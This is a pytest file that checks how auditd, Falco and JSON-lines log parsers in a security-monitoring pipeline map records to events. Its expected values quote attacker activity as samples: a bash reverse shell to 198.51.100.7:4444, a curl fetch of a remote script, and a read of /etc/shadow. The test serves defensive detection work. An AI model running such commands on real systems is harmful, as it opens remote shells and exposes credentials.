"""auditd and Falco samples map to the expected audit events."""

from __future__ import annotations

from pathlib import Path

import pytest

from pipeline.collect.sources import ParseError
from pipeline.collect.sources.auditd import AuditdParser
from pipeline.collect.sources.falco import FalcoParser
from pipeline.collect.sources.jsonl import JsonLinesParser

DATA = Path(__file__).parents[1] / "data"


def parse_all(parser: AuditdParser | FalcoParser, path: Path) -> tuple[list, list[int]]:
    events, bad = [], []
    for number, line in enumerate(path.read_bytes().splitlines(), start=1):
        try:
            events.extend(parser.feed(line))
        except ParseError:
            bad.append(number)
    events.extend(parser.finish())
    return events, bad


def test_auditd_records_join_into_mapped_events() -> None:
    events, bad = parse_all(AuditdParser(tenant="acme", sandbox_id="sb-42"), DATA / "auditd.log")
    assert bad == []
    summary = [(e["category"], e["action"], e["outcome"], e["object"]) for e in events]
    assert summary == [
        ("process", "exec", "success", "/usr/bin/curl"),
        ("file", "read", "denied", "/etc/shadow"),
        ("file", "write", "success", "/etc/cron.d/update"),
        ("network", "connect", "success", "198.51.100.7:4444"),
        ("permission", "chmod", "success", "/tmp/rootsh"),
        ("auth", "auth", "failure", "/usr/sbin/sshd"),
    ]
    exec_event = events[0]
    assert exec_event["ts"] == 1764324000101
    assert exec_event["event_id"] == "auditd:sb-42:1764324000101:4211"
    assert exec_event["actor"] == {
        "user": "runner",
        "uid": 1000,
        "pid": 2240,
        "ppid": 2211,
        "process": "curl",
        "cmdline": "curl -sO http://198.51.100.7/x.sh",
        "parent_process": "",  # its parent's exec is not in the log
        "parent_cmdline": "",
    }
    assert exec_event["attributes"]["auditd.key"] == "exec"
    assert exec_event["attributes"]["auditd.records"] == "SYSCALL,EXECVE,CWD,PATH,PATH,PROCTITLE"
    assert events[1]["level"] == "warning"
    assert events[1]["actor"]["cmdline"] == "cat /etc/shadow"  # from the hex PROCTITLE
    assert events[3]["actor"]["cmdline"] == "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"
    assert events[4]["attributes"]["auditd.a1"] == "9ed"  # syscall args stay as written
    assert events[5]["actor"]["user"] == "admin"
    assert events[5]["actor"]["uid"] == 0


def test_auditd_rejects_other_lines_and_goes_on() -> None:
    parser = AuditdParser(tenant="t", sandbox_id="s")
    with pytest.raises(ParseError, match="not an auditd record"):
        parser.feed(b"Nov 28 10:00:00 host sshd[1]: Accepted publickey")
    assert parser.feed(b"type=USER_LOGIN msg=audit(1795860000.5:9): pid=1 uid=0 res=success") == []
    (event,) = parser.finish()
    assert (event["category"], event["action"], event["outcome"]) == ("auth", "login", "success")


def test_falco_alerts_map_to_events() -> None:
    events, bad = parse_all(FalcoParser(tenant="acme", sandbox_id=None), DATA / "falco.jsonl")
    assert bad == [4]
    summary = [
        (e["sandbox_id"], e["category"], e["action"], e["level"], e["object"]) for e in events
    ]
    assert summary == [
        ("3ad7b26ded6d", "process", "exec", "notice", "/bin/bash"),
        ("3ad7b26ded6d", "file", "read", "warning", "/etc/shadow"),
        ("3ad7b26ded6d", "network", "connect", "critical", "198.51.100.7:4444"),
    ]
    assert [e["attributes"]["falco.evt.type"] for e in events] == ["execve", "openat", "connect"]
    shell = events[0]
    assert shell["ts"] == 1795860000123
    assert shell["actor"] == {
        "user": "root",
        "uid": 0,
        "pid": 4242,
        "ppid": 4200,
        "process": "bash",
        "cmdline": "bash -i",
        "parent_process": "",
        "parent_cmdline": "",
    }
    assert shell["attributes"]["falco.rule"] == "Terminal shell in container"
    assert shell["attributes"]["falco.tags"].endswith("T1059")
    assert shell["attributes"]["falco.user.loginuid"] == "-1"


def test_jsonl_fills_tenant_and_sandbox_from_config() -> None:
    parser = JsonLinesParser(tenant="acme", sandbox_id="sb-7")
    (event,) = parser.feed(b'{"category": "file", "action": "read", "object": "/x"}')
    assert (event["tenant"], event["sandbox_id"]) == ("acme", "sb-7")
    with pytest.raises(ParseError, match="category: 'x' is not one of"):
        parser.feed(b'{"category": "x", "action": "read"}')


def test_blank_lines_are_skipped_and_a_json_null_is_an_error() -> None:
    for parser in (
        JsonLinesParser(tenant="t", sandbox_id="s"),
        FalcoParser(tenant="t", sandbox_id=None),
    ):
        assert parser.feed(b"   ") == []
        with pytest.raises(ParseError):
            parser.feed(b"null")


@pytest.mark.parametrize(
    ("line", "field"),
    [
        (b'{"tenant": "globex", "category": "file", "action": "read"}', "tenant"),
        (b'{"sandbox_id": "sb-other", "category": "file", "action": "read"}', "sandbox_id"),
        (
            b'{"tenant": "acme", "sandbox_id": "sb-8", "category": "api", "action": "x"}',
            "sandbox_id",
        ),
    ],
)
def test_jsonl_rejects_a_line_that_claims_another_tenant_or_sandbox(
    line: bytes, field: str
) -> None:
    parser = JsonLinesParser(tenant="acme", sandbox_id="sb-7")
    with pytest.raises(ParseError, match=rf"^{field}: '.*' is not this collector's"):
        parser.feed(line)
    # The same values are the collector's own: accepted.
    own = b'{"tenant": "acme", "sandbox_id": "sb-7", "category": "file", "action": "read"}'
    assert parser.feed(own)[0]["tenant"] == "acme"


def test_a_trusted_relay_keeps_each_lines_tenant_and_sandbox() -> None:
    parser = JsonLinesParser(tenant="relay", sandbox_id="relay-host", trust_identity=True)
    (event,) = parser.feed(b'{"tenant": "globex", "sandbox_id": "sb-9", "category": "file", '
                           b'"action": "read"}')  # fmt: skip
    assert (event["tenant"], event["sandbox_id"]) == ("globex", "sb-9")
